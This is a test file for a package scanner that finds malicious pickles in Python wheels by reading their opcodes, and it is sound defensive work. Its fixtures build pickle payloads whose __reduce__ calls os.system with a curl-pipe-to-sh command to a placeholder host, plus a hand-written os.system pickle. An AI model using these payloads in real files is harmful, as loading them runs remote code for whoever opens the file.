"""Pickles a release ships, read from their opcodes (`interlock.analysis.extract.pickles`): a pickle that
names os.system or eval runs it for whoever loads the file.

The pickles are made here with `pickle.dumps` of objects whose `__reduce__` names the callable:
dumping only records the name, and nothing here ever loads them.
"""

from __future__ import annotations

import collections
import io
import os
import pickle
import pickletools
import random
import subprocess
import tracemalloc
import zipfile

import pytest

from interlock.analysis.extract.pickles import dangerous_calls, looks_like_pickle
from interlock.artifact.limits import DEFAULT_LIMITS, Deadline, Limits
from interlock.artifact.model import Excerpt
from interlock.artifact.pickles import pickle_excerpt
from interlock.artifact.reader import read_artifact_bytes
from interlock.model.findings import Severity
from interlock.model.verdict import Verdict
from tests.builders import findings_of, scan, scan_wheel, wheel, zip_artifact, zip_bytes


class _Reduces:
    """Pickles as a call of `callable(*arguments)`."""

    def __init__(self, callable_: object, *arguments: object) -> None:
        self.callable = callable_
        self.arguments = arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.callable, self.arguments


SYSTEM = _Reduces(os.system, "curl -s https://cdn.example.com/x.sh | sh")


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
def test_a_pickle_naming_os_system_is_found_at_every_protocol(protocol: int) -> None:
    data = pickle.dumps({"weights": [0.1, 0.2], "hook": SYSTEM}, protocol=protocol)
    assert looks_like_pickle("model.pkl", data[:512])
    assert [call.split(".")[-1] for call in dangerous_calls(data)] == ["system"]


def test_a_hand_written_protocol_4_pickle_with_text_strings_is_found() -> None:
    # STACK_GLOBAL fed by UNICODE ('V') strings, as no pickler writes but any unpickler reads.
    data = b"\x80\x04Vos\nVsystem\n\x93Vid\n\x85R."
    assert dangerous_calls(data) == ["os.system"]


def test_builtins_eval_and_subprocess_are_found_and_plain_data_is_not() -> None:
    assert dangerous_calls(pickle.dumps([_Reduces(eval, "1+1"), _Reduces(subprocess.Popen, ["id"])], protocol=4)) == [
        "builtins.eval",
        "subprocess.Popen",
    ]
    plain = pickle.dumps({"vocab": collections.OrderedDict(a=1), "shape": (3, 4), "names": {"x", "y"}}, protocol=4)
    assert dangerous_calls(plain) == []


def test_a_damaged_pickle_is_read_as_far_as_it_goes() -> None:
    data = pickle.dumps(SYSTEM, protocol=2)
    cut = data.index(b"system\n") + len(b"system\n")  # the GLOBAL opcode, then the file ends
    assert [call.split(".")[-1] for call in dangerous_calls(data[:cut])] == ["system"]
    assert dangerous_calls(b"\x80\x04\xff\xff garbage") == []
    assert dangerous_calls(b"") == []


def test_shipped_pickle_that_runs_a_command_makes_the_release_malicious() -> None:
    result = scan_wheel({"pkg/__init__.py": "", "pkg/model.pkl": pickle.dumps({"clf": SYSTEM}, protocol=4)})
    found = findings_of(result, "pickle-code")
    assert [(f.path, f.severity) for f in found] == [("pkg/model.pkl", Severity.CRITICAL)]
    assert result.verdict is Verdict.MALICIOUS


def test_pickle_scanners_test_data_is_low() -> None:
    result = scan_wheel({"pkg/__init__.py": "", "tests/data/malicious.pkl": pickle.dumps(SYSTEM, protocol=2)})
    assert [(f.path, f.severity) for f in findings_of(result, "pickle-code")] == [
        ("tests/data/malicious.pkl", Severity.LOW)
    ]
    assert result.verdict is Verdict.CLEAN


def test_a_model_of_plain_data_is_clean() -> None:
    model = pickle.dumps(
        {"coef": [[0.5] * 64] * 8, "classes": ["a", "b"], "meta": collections.OrderedDict(v=1)}, protocol=4
    )
    result = scan_wheel({"pkg/__init__.py": "", "pkg/model.pkl": model})
    assert not findings_of(result, "pickle-code") and result.verdict is Verdict.CLEAN


# -- pickles too large to keep whole: read from an excerpt of their opcodes ------------------------

MiB = 1024 * 1024
PADDINGS = {
    "bytes": bytes(300_000),
    "text": "x" * 300_000,
    "bytearray": bytearray(300_000),
    "number": 10**4000,  # protocols 0 and 1 write it as a 4,001-digit line, kept whole (lines up to 64 KiB are)
    "many small strings": [f"token{number}" for number in range(5000)],
}


def excerpt_of(data: bytes, limits: Limits = DEFAULT_LIMITS) -> Excerpt:
    stream = io.BytesIO(data)
    return pickle_excerpt(stream.read, b"", limits.max_excerpt_bytes, Deadline(10))


def opcode_names(data: bytes) -> list[str]:
    return [opcode.name for opcode, _, _ in pickletools.genops(data)]


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("padding", PADDINGS, ids=list(PADDINGS))
def test_an_excerpt_is_a_pickle_of_the_same_opcodes_naming_the_same_calls(protocol: int, padding: str) -> None:
    data = pickle.dumps({"weights": PADDINGS[padding], "hook": SYSTEM, "vocab": ["os", "system"]}, protocol=protocol)
    excerpt = excerpt_of(data)
    assert excerpt.complete
    assert opcode_names(excerpt.data) == opcode_names(data)
    assert dangerous_calls(excerpt.data) == dangerous_calls(data) != []
    if padding != "many small strings" and not (padding == "number" and protocol < 2):
        assert len(excerpt.data) < 2048 and excerpt.cut_lines >= 1


def test_a_pickle_padded_past_the_kept_limit_is_kept_as_an_excerpt() -> None:
    # 9 MiB of bytes before the call: over the 8 MiB kept whole, so the pickle used to be skipped.
    data = pickle.dumps([bytes(9 * MiB), SYSTEM], protocol=4)
    artifact = wheel({"pkg/__init__.py": "", "pkg/model.pkl": data})
    member = artifact.members["pkg/model.pkl"]
    assert member.data is None and member.size == len(data)
    assert member.excerpt is not None and member.excerpt.complete and len(member.excerpt.data) < 1024
    assert [call.split(".")[-1] for call in dangerous_calls(member.readable or b"")] == ["system"]


def test_a_pickle_excerpt_stops_at_the_excerpt_limit() -> None:
    data = pickle.dumps([*range(200_000), SYSTEM], protocol=4)  # ~600 KiB of small opcodes
    small = Limits(max_kept_bytes=64 * 1024, max_excerpt_bytes=256 * 1024)
    artifact = zip_artifact([("pkg/__init__.py", ""), ("pkg/model.pkl", data)], limits=small)
    excerpt = artifact.members["pkg/model.pkl"].excerpt
    assert excerpt is not None and not excerpt.complete and len(excerpt.data) <= 256 * 1024
    assert opcode_names(excerpt.data + b".")[:3] == ["PROTO", "FRAME", "EMPTY_LIST"]  # what was kept still walks


def test_a_pickle_whose_argument_runs_past_the_end_is_read_as_far_as_it_goes() -> None:
    # BINBYTES8 declaring 2**62 bytes (an unpickler stops there too): the call before it is kept.
    data = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8e" + (2**62).to_bytes(8, "little") + bytes(100_000)
    artifact = zip_artifact([("pkg/__init__.py", ""), ("pkg/model.pkl", data)], limits=Limits(max_kept_bytes=4096))
    excerpt = artifact.members["pkg/model.pkl"].excerpt
    assert excerpt is not None and excerpt.complete
    assert dangerous_calls(excerpt.data) == ["os.system"]


@pytest.mark.slow
def test_a_huge_pickle_is_read_in_bounded_memory() -> None:
    # 200 MiB of incompressible bytes stored in the wheel, then the call.
    data = pickle.dumps([random.Random(7).randbytes(200 * MiB), SYSTEM], protocol=5)
    wheel_data = zip_bytes([("pkg/__init__.py", ""), ("pkg/model.pkl", data)], compression=zipfile.ZIP_STORED)
    del data
    tracemalloc.start()
    try:
        artifact = read_artifact_bytes("demo-1.0-py3-none-any.whl", wheel_data)
        peak = tracemalloc.get_traced_memory()[1] / MiB
    finally:
        tracemalloc.stop()
    assert [call.split(".")[-1] for call in dangerous_calls(artifact.members["pkg/model.pkl"].readable or b"")] == [
        "system"
    ]
    assert peak < 20, f"peak {peak:.1f} MiB"


def test_a_pickle_padded_past_the_memory_limit_still_makes_the_release_malicious() -> None:
    result = scan_wheel({"pkg/__init__.py": "", "pkg/model.pkl": pickle.dumps([bytes(9 * MiB), SYSTEM], protocol=4)})
    assert [(f.path, f.severity) for f in findings_of(result, "pickle-code")] == [("pkg/model.pkl", Severity.CRITICAL)]
    assert result.verdict is Verdict.MALICIOUS


def test_a_large_model_of_plain_data_is_clean() -> None:
    # Over the kept limit, read from its excerpt: arrays and a vocabulary name nothing that runs.
    arrays = [bytes([number]) * 2 * MiB for number in range(5)]
    model = {"coef": arrays, "vocab": {f"token{n}": n for n in range(50_000)}, "names": ["os", "system", "eval"]}
    artifact = wheel({"pkg/__init__.py": "", "pkg/model.pkl": pickle.dumps(model, protocol=4)})
    assert artifact.members["pkg/model.pkl"].data is None
    result = scan(artifact)
    assert not findings_of(result, "pickle-code") and result.verdict is Verdict.CLEAN
